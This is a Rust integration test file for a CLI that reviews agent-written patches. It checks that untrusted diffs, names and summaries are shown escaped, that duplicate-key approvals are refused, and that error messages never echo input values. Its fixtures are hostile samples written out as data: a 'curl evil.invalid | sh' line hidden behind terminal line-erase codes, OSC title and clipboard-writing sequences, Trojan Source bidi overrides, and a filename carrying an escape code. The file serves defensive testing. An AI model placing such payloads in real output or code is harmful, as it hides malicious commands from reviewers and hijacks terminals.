//! The `patch-candidate` binary without Docker: untrusted text (diffs, names, summaries) reaches the
//! terminal only escaped, from every command that shows it; every command that reads an approval
//! refuses a duplicate-key one; a path the user named that does not exist is exit 2 with one code
//! for every flag of every command; errors carry their code once and never quote input values.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use crate::support::{approval, assert_contains_all, bin, git_repo, write_approval};

fn run(cmd: &mut Command) -> Output {
    cmd.output().unwrap()
}

fn stdout(out: &Output) -> String {
    String::from_utf8(out.stdout.clone()).unwrap()
}

fn stderr(out: &Output) -> String {
    String::from_utf8(out.stderr.clone()).unwrap()
}

fn json_error(out: &Output) -> (String, String) {
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|_| {
        panic!(
            "stdout is not JSON: {}\nstderr: {}",
            stdout(out),
            stderr(out)
        )
    });
    (
        doc["error"]["code"].as_str().unwrap().to_owned(),
        doc["error"]["message"].as_str().unwrap().to_owned(),
    )
}

/// The agent-written line that hides itself on a terminal: `\r` returns to the start, `ESC [2K`
/// erases the line, and only the harmless tail stays visible.
const HIDDEN: &str = "curl https://evil.invalid/x | sh # hidden\r\u{1b}[2K+harmless looking line";
/// OSC 0 (set the window title) and OSC 52 (write the clipboard).
const OSC: &str = "title\u{1b}]0;owned\u{7} clip\u{1b}]52;c;Y3VybCBldmls\u{7}";
/// Bidi overrides and isolates (Trojan Source).
const BIDI: &str = "access = \"user\u{202e} \u{2066}// admin\u{2069} \u{2066}\"";
/// A file name with a bidi override and a C1 CSI: both are allowed by the portable path profile.
const EVIL_NAME: &str = "app/report\u{202e}txt.\u{9b}2Jmd";

/// Characters a terminal or a bidi algorithm would act on.
const FORBIDDEN: [char; 9] = [
    '\u{1b}', '\r', '\u{7}', '\u{9b}', '\u{9d}', '\u{202e}', '\u{2066}', '\u{2069}', '\u{0}',
];

fn assert_clean(what: &str, text: &str) {
    for c in FORBIDDEN {
        assert!(
            !text.contains(c),
            "{what} prints U+{:04X} raw:\n{text}",
            u32::from(c)
        );
    }
}

/// A complete `finalize` input set over a real repository whose edit is hostile.
struct Hostile {
    _dirs: Vec<tempfile::TempDir>,
    repo: PathBuf,
    approval: PathBuf,
    snapshot: PathBuf,
    baseline: PathBuf,
    staged: PathBuf,
    proposal: PathBuf,
    store: PathBuf,
}

fn write_tree(root: &Path, files: &[(&str, &str)]) {
    snapshot::testkit::write_files(root, files.iter().map(|(p, c)| (*p, c.as_bytes(), false)));
}

fn hostile() -> Hostile {
    let plain = "app/a.txt";
    let files = std::collections::BTreeMap::from([
        (plain, "one\n".to_owned()),
        (EVIL_NAME, "x\n".to_owned()),
    ]);
    let (repo_dir, commit) = git_repo(&files);
    let repo = repo_dir.path().to_path_buf();
    let task = "Edit the files.";
    let context = approval(&repo, &commit, task, &["app/"], &[], &[], &[]);
    let work = tempfile::tempdir().unwrap();
    let approval_path = write_approval(work.path(), &context);

    let out = run(&mut snapshot_cmd(&["--json"], &repo, &commit));
    assert!(out.status.success(), "{}", stderr(&out));
    let text = run(&mut snapshot_cmd(&[], &repo, &commit));
    assert_clean("snapshot", &stdout(&text));
    let mut evidence: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    evidence.as_object_mut().unwrap().remove("excluded");
    let snapshot = work.path().join("snapshot.json");
    std::fs::write(&snapshot, evidence.to_string()).unwrap();

    let baseline = work.path().join("baseline");
    write_tree(&baseline, &[(plain, "one\n"), (EVIL_NAME, "x\n")]);
    let new_plain = format!("one\n{HIDDEN}\n{OSC}\n{BIDI}\n");
    let new_evil = "x\ny\n";
    let staged = work.path().join("staged");
    write_tree(&staged, &[(plain, &new_plain), (EVIL_NAME, new_evil)]);
    let proposal = work.path().join("proposal.json");
    let doc = serde_json::json!({
        "proposal_id": "proposal-1",
        "provider_id": format!("provider{OSC}"),
        "status": "completed",
        "summary": format!("Summary: {HIDDEN}\n{BIDI}"),
        "changed_files": [
            {"path": plain, "op": "update", "content": new_plain},
            {"path": EVIL_NAME, "op": "update", "content": new_evil},
        ],
        "owned_paths": [plain, EVIL_NAME],
    });
    std::fs::write(&proposal, doc.to_string()).unwrap();
    let store = work.path().join("store");
    Hostile {
        repo,
        approval: approval_path,
        snapshot,
        baseline,
        staged,
        proposal,
        store,
        _dirs: vec![repo_dir, work],
    }
}

/// `snapshot` of `repo` at `commit` with the fixture's identifiers, after the global `flags`.
fn snapshot_cmd(flags: &[&str], repo: &Path, commit: &str) -> Command {
    let mut cmd = bin();
    cmd.args(flags)
        .args(["snapshot", "--repo"])
        .arg(repo)
        .args([
            "--commit",
            commit,
            "--repository-full-name",
            "acme/fixture",
            "--plan-id",
            "plan-t",
            "--request-id",
            "request-t",
            "--app-id",
            "app-t",
        ]);
    cmd
}

fn finalize_cmd(h: &Hostile) -> Command {
    let mut cmd = bin();
    cmd.arg("finalize")
        .arg("--approval")
        .arg(&h.approval)
        .arg("--snapshot")
        .arg(&h.snapshot)
        .arg("--baseline-dir")
        .arg(&h.baseline)
        .arg("--staged")
        .arg(&h.staged)
        .arg("--proposal")
        .arg(&h.proposal)
        .arg("--repo")
        .arg(&h.repo);
    cmd
}

/// The stored candidate file of a successful `finalize --store`.
fn finalize_and_store(h: &Hostile) -> (Output, PathBuf) {
    let out = run(finalize_cmd(h).arg("--store").arg(&h.store));
    assert!(out.status.success(), "{}", stderr(&out));
    let stored: Vec<PathBuf> = std::fs::read_dir(&h.store)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(stored.len(), 1);
    (out, stored.into_iter().next().unwrap())
}

#[test]
fn r_hostile_diffs_and_names_print_escaped_from_every_command() {
    let h = hostile();
    let (out, candidate) = finalize_and_store(&h);
    let text = stdout(&out);
    assert_clean("finalize", &text);
    assert_clean("finalize stderr", &stderr(&out));
    assert!(text.contains("'app/report\\u202etxt.\\x9b2Jmd'"), "{text}");
    assert!(text.contains("providertitle\\x1b]0;owned\\x07"), "{text}");

    // The stored candidate really carries the raw bytes: the escaping is the display's doing.
    let raw = std::fs::read_to_string(&candidate).unwrap();
    assert!(raw.contains("\\r\\u001b[2K+harmless looking line"), "{raw}");

    let out = run(bin().arg("show").arg(&candidate));
    assert!(out.status.success(), "{}", stderr(&out));
    let shown = stdout(&out);
    assert_clean("show", &shown);
    assert_contains_all(
        &shown,
        &[
            "+curl https://evil.invalid/x | sh # hidden\\r\\x1b[2K+harmless looking line\n",
            "+title\\x1b]0;owned\\x07 clip\\x1b]52;c;Y3VybCBldmls\\x07\n",
            "+access = \"user\\u202e \\u2066// admin\\u2069 \\u2066\"\n",
            "+++ b/app/report\\u202etxt.\\x9b2Jmd\n",
        ],
    );
    // Piped output is never coloured: the only ESC in a terminal rendering is ours (unit-tested).
    assert!(!out.stdout.contains(&0x1b));

    for args in [
        vec!["digest".into(), candidate.clone().into_os_string()],
        vec!["verify".into(), candidate.clone().into_os_string()],
        vec![
            "verify".into(),
            candidate.clone().into_os_string(),
            "--repo".into(),
            h.repo.clone().into_os_string(),
        ],
    ] {
        let out = run(bin().args(&args));
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        assert_clean("digest/verify", &stdout(&out));
    }

    // Archive names: `pack` then `inspect` a tree holding the hostile name.
    let tree = tempfile::tempdir().unwrap();
    write_tree(tree.path(), &[(EVIL_NAME, "x\n"), ("app/a.txt", "a\n")]);
    let zip = tree.path().join("out.zip");
    let out = run(bin()
        .args(["archive", "pack"])
        .arg(tree.path())
        .arg("--out")
        .arg(&zip));
    assert!(out.status.success(), "{}", stderr(&out));
    assert_clean("archive pack", &stdout(&out));
    let out = run(bin().args(["archive", "inspect"]).arg(&zip));
    assert!(out.status.success(), "{}", stderr(&out));
    let listing = stdout(&out);
    assert_clean("archive inspect", &listing);
    assert!(
        listing.contains("'app/report\\u202etxt.\\x9b2Jmd'"),
        "{listing}"
    );
}

/// Every command that reads an approval refuses one with a duplicate key (plain serde would keep
/// the last value), with the approval's code once and exit 1.
#[test]
fn r_duplicate_key_approval_is_refused_by_every_command() {
    let h = hostile();
    let text = std::fs::read_to_string(&h.approval).unwrap();
    let dup = text.replacen(
        "\"raw_request\":",
        "\"raw_request\": \"Something the operator never approved.\", \"raw_request\":",
        1,
    );
    assert_ne!(dup, text);
    std::fs::write(&h.approval, dup).unwrap();
    let state = tempfile::tempdir().unwrap();
    let commit = {
        let doc: serde_json::Value =
            serde_json::from_slice(&std::fs::read(&h.snapshot).unwrap()).unwrap();
        doc["baseline_commit_sha"].as_str().unwrap().to_owned()
    };
    let mut run_cmd = bin();
    run_cmd
        .args(["--json", "run", "--repo"])
        .arg(&h.repo)
        .args(["--commit", &commit, "--approval"])
        .arg(&h.approval)
        .args(["--task", "Edit the files."])
        .args(["--image-id", &format!("sha256:{}", "0".repeat(64))])
        // The approval is refused before Docker is ever contacted.
        .args(["--docker-socket", "/nonexistent/docker.sock"])
        .env("PATCH_CANDIDATE_STATE_DIR", state.path());
    let mut finalize = finalize_cmd(&h);
    finalize.arg("--json");
    for (name, cmd) in [("run", &mut run_cmd), ("finalize", &mut finalize)] {
        let out = run(cmd);
        assert_eq!(out.status.code(), Some(1), "{name}: {}", stderr(&out));
        let (code, message) = json_error(&out);
        assert_eq!(code, "REPOSITORY_PATCH_CONTEXT_INVALID", "{name}");
        assert!(
            message.contains("duplicate object key"),
            "{name}: {message}"
        );
        assert_eq!(
            message.matches("REPOSITORY_PATCH_CONTEXT_INVALID").count(),
            1,
            "{name}: {message}"
        );
        assert!(!message.contains("never approved"), "{name}: {message}");
        assert_eq!(stderr(&out).trim_end(), message, "{name}");
    }
}

/// serde's texts quote input values; none reaches the user. The code appears once.
#[test]
fn r_errors_never_quote_input_values_and_carry_the_code_once() {
    let h = hostile();
    let mut doc: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&h.approval).unwrap()).unwrap();
    doc["allowed_paths"] = serde_json::json!(["app/", 7, "sk-live-SECRET\u{1b}]52;c;eA==\u{7}"]);
    doc["sk-live-UNKNOWN-KEY"] = serde_json::json!("sk-live-VALUE");
    std::fs::write(&h.approval, doc.to_string()).unwrap();
    let out = run(finalize_cmd(&h).arg("--json"));
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let (code, message) = json_error(&out);
    assert_eq!(code, "REPOSITORY_PATCH_CONTEXT_INVALID");
    assert!(!message.contains("sk-live"), "{message}");
    assert!(message.contains("$.allowed_paths[1]"), "{message}");
    assert_clean("error", &stderr(&out));

    // A path-check failure used to print the code twice.
    doc["allowed_paths"] = serde_json::json!(["../\u{202e}up"]);
    doc.as_object_mut().unwrap().remove("sk-live-UNKNOWN-KEY");
    std::fs::write(&h.approval, doc.to_string()).unwrap();
    let out = run(finalize_cmd(&h).arg("--json"));
    let (code, message) = json_error(&out);
    assert_eq!(code, "REPOSITORY_PATCH_CONTEXT_INVALID");
    assert_eq!(
        message,
        "REPOSITORY_PATCH_CONTEXT_INVALID: unsafe execution path: '../\\u202eup'"
    );
    assert_clean("error", &stderr(&out));
}

/// Command-line arguments of mixed kinds (words, paths), in order.
fn os_args(parts: &[&dyn AsRef<std::ffi::OsStr>]) -> Vec<std::ffi::OsString> {
    parts.iter().map(|p| p.as_ref().to_owned()).collect()
}

/// One rule for every flag of every command: a named path that does not exist is exit 2 with
/// `PATCH_CANDIDATE_PATH_MISSING` (the Docker socket aside: an absent daemon is the environment).
#[test]
fn r_missing_named_paths_exit_2_with_one_code_for_every_flag() {
    let h = hostile();
    let state = tempfile::tempdir().unwrap();
    let missing = state.path().join("does-not-exist");
    let missing_parent = missing.join("child");
    let candidate = {
        let (_, c) = finalize_and_store(&h);
        c
    };
    let commit = "0".repeat(40);
    let image_id = format!("sha256:{}", "0".repeat(64));
    let run_base = |repo: &Path, approval: &Path| -> Vec<std::ffi::OsString> {
        let mut v: Vec<std::ffi::OsString> = vec!["run".into(), "--repo".into()];
        v.push(repo.into());
        v.extend([
            "--commit".into(),
            commit.clone().into(),
            "--approval".into(),
        ]);
        v.push(approval.into());
        v.extend([
            "--task".into(),
            "t".into(),
            "--image-id".into(),
            image_id.clone().into(),
            "--docker-socket".into(),
            "/nonexistent/docker.sock".into(),
        ]);
        v
    };
    let finalize_base = |edit: &dyn Fn(&mut Vec<std::ffi::OsString>)| {
        let mut v: Vec<std::ffi::OsString> = vec!["finalize".into()];
        for (flag, path) in [
            ("--approval", &h.approval),
            ("--snapshot", &h.snapshot),
            ("--baseline-dir", &h.baseline),
            ("--staged", &h.staged),
            ("--proposal", &h.proposal),
        ] {
            v.push(flag.into());
            v.push(path.into());
        }
        edit(&mut v);
        v
    };
    let replace = |flag: &'static str, with: PathBuf| {
        move |v: &mut Vec<std::ffi::OsString>| {
            let i = v.iter().position(|a| a == flag).unwrap();
            v[i + 1] = with.clone().into();
        }
    };
    let append = |flag: &'static str, with: PathBuf| {
        move |v: &mut Vec<std::ffi::OsString>| {
            v.push(flag.into());
            v.push(with.clone().into());
        }
    };
    let mut cases: Vec<(String, Vec<std::ffi::OsString>)> = Vec::new();
    let mut case = |name: &str, args: Vec<std::ffi::OsString>| cases.push((name.to_owned(), args));
    case("run --repo", run_base(&missing, &h.approval));
    case("run --approval", run_base(&h.repo, &missing));
    case("run --policy", {
        let mut v = run_base(&h.repo, &h.approval);
        v.extend(["--policy".into(), missing.clone().into()]);
        v
    });
    case("run --store", {
        let mut v = run_base(&h.repo, &h.approval);
        v.extend(["--store".into(), missing_parent.clone().into()]);
        v
    });
    for flag in [
        "--approval",
        "--snapshot",
        "--baseline-dir",
        "--staged",
        "--proposal",
    ] {
        case(
            &format!("finalize {flag}"),
            finalize_base(&replace(flag, missing.clone())),
        );
    }
    for (flag, path) in [
        ("--repo", &missing),
        ("--policy", &missing),
        ("--store", &missing_parent),
    ] {
        case(
            &format!("finalize {flag}"),
            finalize_base(&append(flag, path.clone())),
        );
    }
    case("digest FILE", os_args(&[&"digest", &missing]));
    case("verify FILE", os_args(&[&"verify", &missing]));
    case(
        "verify --repo",
        os_args(&[&"verify", &candidate, &"--repo", &missing]),
    );
    case("show FILE", os_args(&[&"show", &missing]));
    case(
        "export FILE",
        os_args(&[&"export", &missing, &"--format", &"git"]),
    );
    case(
        "export --repo",
        os_args(&[
            &"export",
            &candidate,
            &"--format",
            &"git",
            &"--repo",
            &missing,
        ]),
    );
    case(
        "export --out",
        os_args(&[
            &"export",
            &candidate,
            &"--format",
            &"git",
            &"--out",
            &missing_parent,
        ]),
    );
    case(
        "archive inspect FILE",
        os_args(&[&"archive", &"inspect", &missing]),
    );
    case(
        "archive pack DIR",
        os_args(&[
            &"archive",
            &"pack",
            &missing,
            &"--out",
            &state.path().join("x.zip"),
        ]),
    );
    case(
        "archive pack --out",
        os_args(&[&"archive", &"pack", &h.baseline, &"--out", &missing_parent]),
    );
    case(
        "snapshot --repo",
        os_args(&[
            &"snapshot",
            &"--repo",
            &missing,
            &"--commit",
            &commit,
            &"--repository-full-name",
            &"a/b",
            &"--plan-id",
            &"p",
            &"--request-id",
            &"r",
            &"--app-id",
            &"a",
        ]),
    );
    case(
        "usage --ledger",
        os_args(&[&"usage", &"--ledger", &missing]),
    );
    case(
        "image build --source",
        os_args(&[&"image", &"build", &"--source", &missing]),
    );
    case(
        "demo --source",
        os_args(&[
            &"demo",
            &"--source",
            &missing,
            &"--docker-socket",
            &"/nonexistent/docker.sock",
        ]),
    );
    case(
        "demo --dir",
        os_args(&[
            &"demo",
            &"--dir",
            &missing_parent,
            &"--docker-socket",
            &"/nonexistent/docker.sock",
        ]),
    );
    for (name, args) in cases {
        let out = run(bin()
            .arg("--json")
            .args(&args)
            .env("PATCH_CANDIDATE_STATE_DIR", state.path()));
        assert_eq!(out.status.code(), Some(2), "{name}: {}", stderr(&out));
        let (code, message) = json_error(&out);
        assert_eq!(code, "PATCH_CANDIDATE_PATH_MISSING", "{name}: {message}");
        assert!(
            message.starts_with("PATCH_CANDIDATE_PATH_MISSING: "),
            "{name}: {message}"
        );
    }
}

/// `image build` resolves its source checkout at run time: outside a checkout, without
/// `--source`, it says so (exit 2) instead of using a path recorded when the binary was built.
#[test]
fn r_image_build_never_uses_the_build_machine_source_path() {
    let outside = tempfile::tempdir().unwrap();
    let state = tempfile::tempdir().unwrap();
    let out = run(bin()
        .args(["--json", "image", "build"])
        .current_dir(outside.path())
        .env("PATCH_CANDIDATE_STATE_DIR", state.path()));
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let (code, message) = json_error(&out);
    assert_eq!(code, "PATCH_CANDIDATE_IMAGE_SOURCE");
    assert!(message.contains("--source"), "{message}");
    let build_tree = Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap();
    assert!(!message.contains(build_tree.to_str().unwrap()), "{message}");
}

/// Files named on the command line are opened without blocking: a FIFO is refused at once (the
/// test would hang otherwise), and so is a directory, with exit 2.
#[test]
fn r_named_fifo_or_directory_is_refused_without_blocking() {
    let h = hostile();
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("approval.json");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    for (flag, path) in [("--approval", fifo.as_path()), ("--proposal", dir.path())] {
        let mut cmd = finalize_cmd(&h);
        let args: Vec<std::ffi::OsString> = cmd.get_args().map(ToOwned::to_owned).collect();
        let i = args.iter().position(|a| a == flag).unwrap();
        let mut fixed = bin();
        fixed.arg("--json");
        for (j, a) in args.iter().enumerate() {
            if j == i + 1 {
                fixed.arg(path);
            } else {
                fixed.arg(a);
            }
        }
        cmd = fixed;
        let out = run(&mut cmd);
        assert_eq!(out.status.code(), Some(2), "{flag}: {}", stderr(&out));
        assert_eq!(json_error(&out).0, "PATCH_CANDIDATE_PATH_KIND", "{flag}");
    }
    for args in [
        vec!["show".into(), fifo.clone().into_os_string()],
        vec![
            "archive".into(),
            "inspect".into(),
            fifo.clone().into_os_string(),
        ],
    ] {
        let out = run(bin().arg("--json").args(&args));
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
        assert_eq!(json_error(&out).0, "PATCH_CANDIDATE_PATH_KIND");
    }
}

/// A state directory without an `image build` record and no `--image-id`: the approved image ID
/// is missing on this host, an environment failure (exit 3) with one code and message, from
/// `run` and from `jobs submit` alike (offline and live), before Docker or the job store is
/// touched.
#[test]
fn r_missing_recorded_image_build_is_exit_3_for_run_and_jobs_submit() {
    let h = hostile();
    let state = tempfile::tempdir().unwrap();
    let cases: [(&str, &[&str], &str); 4] = [
        ("run", &["run"], "run `patch-candidate image build`"),
        (
            "run --live",
            &["run", "--live"],
            "run `patch-candidate image build --live`",
        ),
        (
            "jobs submit",
            &["jobs", "submit"],
            "run `patch-candidate image build`",
        ),
        (
            "jobs submit --live",
            &["jobs", "submit", "--live", "--model", "gpt-5.3-codex"],
            "run `patch-candidate image build --live`",
        ),
    ];
    for (name, command, hint) in cases {
        let mut cmd = bin();
        cmd.arg("--json")
            .args(command)
            .arg("--repo")
            .arg(&h.repo)
            .arg("--approval")
            .arg(&h.approval)
            .env("PATCH_CANDIDATE_STATE_DIR", state.path());
        if command[0] == "run" {
            cmd.args(["--docker-socket", "/nonexistent/docker.sock"]);
        } else {
            cmd.arg("--database").arg(state.path().join("jobs.sqlite3"));
        }
        let out = run(&mut cmd);
        assert_eq!(out.status.code(), Some(3), "{name}: {}", stderr(&out));
        let (code, message) = json_error(&out);
        assert_eq!(code, "REPOSITORY_DOCKER_EXPECTED_IMAGE_ID", "{name}");
        assert!(message.ends_with(hint), "{name}: {message}");
    }
    // Nothing was created: no job store, no candidate store.
    assert_eq!(std::fs::read_dir(state.path()).unwrap().count(), 0);
}
